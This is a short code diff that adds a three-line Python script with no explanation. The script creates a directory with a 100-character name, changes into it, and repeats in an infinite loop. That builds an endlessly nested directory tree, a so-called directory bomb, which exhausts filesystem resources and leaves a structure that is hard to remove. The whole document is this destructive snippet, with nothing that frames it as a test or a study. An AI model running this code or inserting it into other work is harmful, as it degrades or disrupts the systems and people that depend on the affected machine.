@@ -1,0 +1,3 @@
+import os
+while True:
+    os.mkdir('d' * 100); os.chdir('d' * 100)
